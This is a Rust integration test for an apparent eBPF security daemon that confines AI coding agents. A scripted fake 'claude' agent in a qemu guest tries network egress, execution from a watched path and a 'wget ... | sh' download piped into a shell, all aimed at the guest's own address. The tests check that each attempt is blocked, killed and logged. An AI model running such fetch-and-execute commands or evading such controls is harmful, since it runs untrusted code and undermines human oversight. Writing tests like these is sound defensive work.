//! The daemon on other kernels: Debian cloud kernels (6.1 and 6.12) booted
//! in qemu (software emulation) with a *pure* cgroup v2 hierarchy and
//! BPF-LSM enabled, through `cargo xtask guest`. This host is hybrid
//! (cgroup v1 + v2) and refuses fentry and BPF-LSM, so this is where those
//! cases are checked for real.
//!
//! The guest runs the real binary with the default policy pack plus one
//! kernel-compiled kill rule, and a fake `claude` agent that:
//! - connects out (kernel deny through the cgroup sock_addr hook, EPERM);
//! - execs a binary the kill rule covers (in-kernel SIGKILL);
//! - pipes a download into a shell (userspace pidfd kill);
//! - connects again from a process it forked earlier, after `kill -9` of
//!   the daemon (pinned state still denies), and after `run --cleanup`
//!   (nothing is left: the connect is let through and refused).
//!
//! The address is one the guest gives itself: nothing leaves it.
//!
//! A non-agent process connecting to the same address is the control.
//! `cargo xtask test` installs qemu, fetches the kernels to target/vm and
//! sets AGENTGUARD_XTASK to the xtask binary that runs the guest.

mod common;

use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Mutex;

/// The whole guest run: boot, verifier under emulation, the scenario.
const GUEST_TIMEOUT_SECS: u64 = 900;

/// One guest at a time: each has 2 vCPUs, as many as this kind of host
/// has cores, and the scenario has timed steps.
static ONE_GUEST: Mutex<()> = Mutex::new(());

const POLICY: &str = r#"name: vm
mode: enforce
description: Guest-test rule; a plain exec path, so it compiles into the kernel maps.
rules:
  - name: agent-exec-scratch
    kinds: exec
    match: { agent: any }
    when: { exec: "/scratch/**" }
    action: kill
    severity: high
    message: "{comm} ({agent}) executed {path}"
"#;

/// The guest script (run as root by `cargo xtask guest`). `@POLICY@` is
/// replaced by [`POLICY`].
const SCRIPT: &str = r#"say() { echo "AG-RESULT $*"; }
wait_for() { i=0; while [ ! -e "$1" ] && [ $i -lt 3000 ]; do sleep 0.1; i=$((i+1)); done; }
finish() {
  echo AG-ALERTS-BEGIN
  cat /alerts.jsonl
  echo AG-ALERTS-END
  echo AG-LOG-BEGIN
  cat /daemon.log /cleanup.log
  echo AG-LOG-END
  echo AG-DONE
  exit 0
}
mkdir -p /scratch /root/policies
# The default pack plus the kill rule.
cp /etc/agentguard/policies/*.yaml /etc/agentguard/policies/*.rego /root/policies/
cat >/root/policies/vm.yaml <<'EOF'
@POLICY@EOF
say "cgroup $(cat /proc/self/cgroup)"
say "v1-mounts $(grep -c ' - cgroup ' /proc/self/mountinfo)"
@FACTS@echo AG-CHECK-BEGIN
agentguard check --json 2>/tmp/check.err
echo AG-CHECK-END
cat /tmp/check.err
agentguard run --policies /root/policies --alerts /alerts.jsonl --ready-file /ready >/daemon.log 2>&1 &
DAEMON=$!
wait_for /ready
[ -e /ready ] && say "ready 1" || { say "ready 0"; finish; }
# The address the agent reaches for is the guest's own (on lo, outside
# 127/8, so no loopback exception covers it): nothing leaves the guest,
# and with nothing listening a connect that is let through is refused.
ip addr add 192.0.2.1/32 dev lo
nc -w 2 192.0.2.1 80 </dev/null 2>/tmp/host.err; say "host-connect rc=$? err=$(cat /tmp/host.err)"
claude &
wait_for /phase1.done
kill -9 $DAEMON
sleep 1
touch /phase2
wait_for /phase2.done
agentguard run --cleanup >/cleanup.log 2>&1; say "cleanup rc=$?"
touch /phase3
wait_for /phase3.done
finish
"#;

/// The fake agent, in the guest's /bin. Its comm is `claude`, so it and
/// its descendants are the agent by ancestry.
const CLAUDE: &str = r#"#!/bin/sh
say() { echo "AG-RESULT $*"; }
wait_for() { i=0; while [ ! -e "$1" ] && [ $i -lt 3000 ]; do sleep 0.1; i=$((i+1)); done; }
# Exec from /tmp raises an alert-only rule; once it is in the alert file the
# daemon has identified this agent and covered it in the kernel, so what it
# forks from now on inherits that.
cp /bin/busybox /tmp/true
i=0
until grep -q exec-from-temp /alerts.jsonl 2>/dev/null; do
  /tmp/true; i=$((i+1)); [ $i -gt 600 ] && break; sleep 0.2
done
say "agent-seen tries=$i"
# Jobs forked while the daemon runs, used after it is gone.
( wait_for /phase2; exec nc -w 2 192.0.2.1 80 </dev/null ) 2>/tmp/p2.err &
J2=$!
# The kernel releases a dead daemon's LSM links asynchronously (slow
# under TCG): retry while the connect is still refused, a few seconds.
( wait_for /phase3; for t in 1 2 3 4 5 6 7 8 9 10; do
    nc -w 2 192.0.2.1 80 </dev/null 2>/tmp/p3.err; r=$?
    grep -q 'not permitted' /tmp/p3.err || break; sleep 1
  done; exit $r ) &
J3=$!
nc -w 2 192.0.2.1 80 </dev/null 2>/tmp/a.err; say "agent-connect rc=$? err=$(cat /tmp/a.err)"
cp /bin/busybox /scratch/true
/scratch/true; say "kernel-kill rc=$?"
sh -c "sleep 3; wget -q -O- http://192.0.2.1/x | sh"; say "user-kill rc=$?"
# The alert is written by the daemon's sink thread; give it the moment it
# needs (slow under TCG) before the daemon is killed -9.
i=0; until grep -q download-pipe-shell /alerts.jsonl 2>/dev/null || [ $i -gt 50 ]; do sleep 0.2; i=$((i+1)); done
touch /phase1.done
wait $J2; say "after-kill9 rc=$? err=$(cat /tmp/p2.err)"
touch /phase2.done
wait $J3; say "after-cleanup rc=$? err=$(cat /tmp/p3.err)"
touch /phase3.done
"#;

/// Runs the scenario in a guest with `kernel` ("6.1", "6.12") through
/// `$AGENTGUARD_XTASK guest`; returns the script's output, or None when
/// the test is skipped.
fn run_guest(kernel: &str) -> Option<String> {
    let xtask = std::env::var_os("AGENTGUARD_XTASK").filter(|x| !x.is_empty());
    if !common::require(
        "AGENTGUARD_XTASK, the xtask binary that boots guests (`cargo xtask test` sets it)",
        xtask.is_some(),
    ) {
        return None;
    }
    let xtask = PathBuf::from(xtask?);
    let _one = ONE_GUEST.lock().unwrap_or_else(|e| e.into_inner());
    let dir = std::env::temp_dir().join(format!("agentguard-vm-{}-{kernel}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    let script = dir.join("scenario.sh");
    std::fs::write(
        &script,
        SCRIPT
            .replace("@POLICY@", POLICY)
            .replace("@FACTS@", common::KernelFacts::SHELL),
    )
    .expect("write script");
    let claude = dir.join("claude");
    std::fs::write(&claude, CLAUDE).expect("write claude");
    let boot = || {
        Command::new(&xtask)
            .args(["guest", "--kernel", kernel, "--timeout"])
            .arg(GUEST_TIMEOUT_SECS.to_string())
            .arg("--agentguard")
            .arg(env!("CARGO_BIN_EXE_agentguard"))
            .arg("--add")
            .arg(&claude)
            .arg(&script)
            .stdin(Stdio::null())
            .output()
            .unwrap_or_else(|e| panic!("run {} guest: {e}", xtask.display()))
    };
    let mut out = boot();
    // One more boot, said loudly, when the guest's own kernel hung (a CPU
    // stuck for minutes: seen once on the 6.1 guest under TCG, after the
    // daemon's LSM links were released). Any other failure, or a second
    // hang, fails the test.
    if !out.status.success() && String::from_utf8_lossy(&out.stderr).contains("soft lockup") {
        eprintln!(
            "RETRY: the {kernel} guest kernel reported a soft lockup; its output:\n{}\n{}\nbooting it once more",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out = boot();
    }
    let _ = std::fs::remove_dir_all(&dir);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr);
    // The runner's progress lines (boot time, exit status).
    eprint!("{stderr}");
    assert!(
        out.status.success() && stdout.contains("AG-DONE"),
        "the {kernel} guest did not finish ({}):\n{stdout}\n--- runner stderr:\n{stderr}",
        out.status
    );
    Some(stdout)
}

fn section<'a>(out: &'a str, name: &str) -> &'a str {
    let begin = format!("AG-{name}-BEGIN\n");
    let end = format!("AG-{name}-END");
    out.split_once(&begin)
        .and_then(|(_, rest)| rest.split_once(&end))
        .map(|(s, _)| s)
        .unwrap_or_else(|| panic!("no {name} section in the guest output:\n{out}"))
}

/// The text after `AG-RESULT <key> `.
fn result<'a>(out: &'a str, key: &str) -> &'a str {
    let prefix = format!("AG-RESULT {key} ");
    out.lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no `{key}` result in the guest output:\n{out}"))
}

#[test]
fn guest_6_1_denies_kills_and_survives_the_daemon() {
    scenario("6.1");
}

#[test]
fn guest_6_12_denies_kills_and_survives_the_daemon() {
    scenario("6.12");
}

fn scenario(kernel: &str) {
    let Some(out) = run_guest(kernel) else {
        return;
    };
    let out = out.as_str();

    // The hierarchy really is pure v2.
    assert_eq!(result(out, "cgroup"), "0::/", "{out}");
    assert_eq!(result(out, "v1-mounts"), "0", "{out}");

    // `check` sees what this kernel allows, including what the host lacks.
    let check: serde_json::Value = serde_json::from_str(section(out, "CHECK"))
        .unwrap_or_else(|e| panic!("check JSON: {e}\n{out}"));
    let status = |name: &str| {
        check["probes"]
            .as_array()
            .and_then(|p| p.iter().find(|p| p["name"] == name))
            .and_then(|p| p["status"].as_str())
            .unwrap_or("absent")
            .to_owned()
    };
    common::KernelFacts::from_results(|k| result(out, k).to_owned()).agree_with(&check);
    for probe in [
        "cgroup_v2",
        "sock_addr",
        "send_signal",
        "ringbuf",
        "btf",
        "fentry",
        "bpf_lsm",
    ] {
        assert_eq!(status(probe), "supported", "{probe} in the guest:\n{out}");
    }

    let log = section(out, "LOG");
    assert_eq!(result(out, "ready"), "1", "daemon never got ready:\n{out}");
    // The control: let through, refused by the guest (nothing listens).
    let host = result(out, "host-connect");
    assert!(host.contains("refused"), "host connect: {host}\n{log}");
    let seen = result(out, "agent-seen");
    assert!(
        seen != "tries=601",
        "the daemon never identified the agent:\n{out}"
    );

    // Denied in the kernel before routing: EPERM.
    let agent = result(out, "agent-connect");
    assert!(
        agent.contains("not permitted"),
        "agent connect: {agent}\n{out}"
    );
    assert_eq!(result(out, "kernel-kill"), "rc=137", "{out}");
    assert_eq!(result(out, "user-kill"), "rc=137", "{out}");
    // kill -9 of the daemon: the pinned maps and sock_addr link still deny.
    let after = result(out, "after-kill9");
    assert!(
        after.contains("not permitted"),
        "after kill -9: {after}\n{out}"
    );
    assert_eq!(result(out, "cleanup"), "rc=0", "{out}");
    let clean = result(out, "after-cleanup");
    assert!(clean.contains("refused"), "after --cleanup: {clean}\n{out}");

    // Each action is in the alert feed, attributed, with what was done.
    let alerts: Vec<serde_json::Value> = section(out, "ALERTS")
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("alert JSON {e}: {l}")))
        .collect();
    let find = |rule: &str| {
        alerts
            .iter()
            .find(|a| a["decision"]["rule"] == rule && a["result"]["outcome"] != "alerted")
            .unwrap_or_else(|| panic!("no enforced alert for {rule}:\n{out}"))
    };
    let egress = find("agent-egress");
    assert_eq!(egress["result"]["outcome"], "denied", "{egress}");
    assert_eq!(egress["result"]["by"], "kernel", "{egress}");
    assert_eq!(
        egress["event"]["identity"]["agent"]["name"], "claude",
        "{egress}"
    );
    let kkill = find("agent-exec-scratch");
    assert_eq!(kkill["result"]["outcome"], "killed", "{kkill}");
    assert_eq!(kkill["result"]["by"], "kernel", "{kkill}");
    let ukill = find("download-pipe-shell");
    assert_eq!(ukill["result"]["outcome"], "killed", "{ukill}");
    assert_eq!(ukill["result"]["by"], "userspace", "{ukill}");
}
